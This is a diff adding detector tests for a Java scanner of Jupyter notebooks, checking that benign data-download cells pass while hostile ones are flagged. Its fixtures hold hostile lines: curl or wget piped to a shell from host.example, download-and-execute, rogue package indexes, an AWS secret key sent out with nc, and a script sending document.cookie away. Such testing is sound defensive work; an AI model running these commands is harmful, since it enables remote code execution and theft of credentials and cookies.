@@ -22,6 +22,56 @@ class PythonScannerTest {
         return SCANNER.recognises(Content.of("x", source.getBytes(StandardCharsets.UTF_8)));
     }
 
+    private static String notebook(String source) {
+        return "{\"cells\": [{\"cell_type\": \"code\", \"outputs\": [], \"source\": [\"%s\"]}], \"nbformat\": 4}"
+                .formatted(source.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "!wget -q https://archive.example.org/iris/iris.data",
+                "!curl -L -o data.zip https://example.org/data.zip\n!unzip -q data.zip",
+                "!pip install -q transformers",
+                "!pip install torch --index-url https://download.pytorch.org/whl/cu121",
+                "%%bash\npip install -r requirements.txt\npython train.py",
+                "%%html\n<b>x</b>",
+                "get_ipython().system('nvidia-smi')"
+            })
+    void a_notebook_that_fetches_data_is_clean(String source) {
+        assertThat(read(notebook(source)).rules()).as(source).isSubsetOf("python/noted-call");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "%%bash\nwget -qO- http://host.example/p | bash",
+                "%%script bash\ncurl -s http://host.example/p | sh",
+                "!!curl -s http://host.example/p | sh",
+                "%sx curl -s http://host.example/p | sh",
+                "!wget http://host.example/p -O /tmp/p && chmod +x /tmp/p && /tmp/p",
+                "!pip install --index-url http://host.example/simple evil",
+                "%pip install --extra-index-url http://host.example/simple evil",
+                "get_ipython().system('curl -s http://host.example/p | sh')",
+                "get_ipython().system('echo ' + os.environ.get('AWS_SECRET_ACCESS_KEY', '') + ' | nc host.example 99')"
+            })
+    void a_notebook_that_runs_what_it_fetches_is_told(String source) {
+        assertThat(read(notebook(source)).rules())
+                .as(source)
+                .containsAnyOf("python/dangerous-call", "python/risky-call");
+    }
+
+    @Test
+    void a_script_in_stored_output_is_told_where_it_reaches_for_what_is_the_readers() {
+        String page =
+                "{\"cells\": [{\"cell_type\": \"code\", \"source\": [\"1\"], \"outputs\": [{\"data\": {\"text/html\":"
+                        + " [\"<script>%s</script>\"]}}]}], \"nbformat\": 4}";
+        assertThat(read(page.formatted("fetch('http://host.example/' + document.cookie)"))
+                        .rules())
+                .containsExactly("python/notebook-page");
+        assertThat(read(page.formatted("Plotly.newPlot('a', [])")).rules()).isEmpty();
+    }
+
     @ParameterizedTest
     @EnumSource(HonestSource.class)
     void honest_source_is_clean(HonestSource honest) {
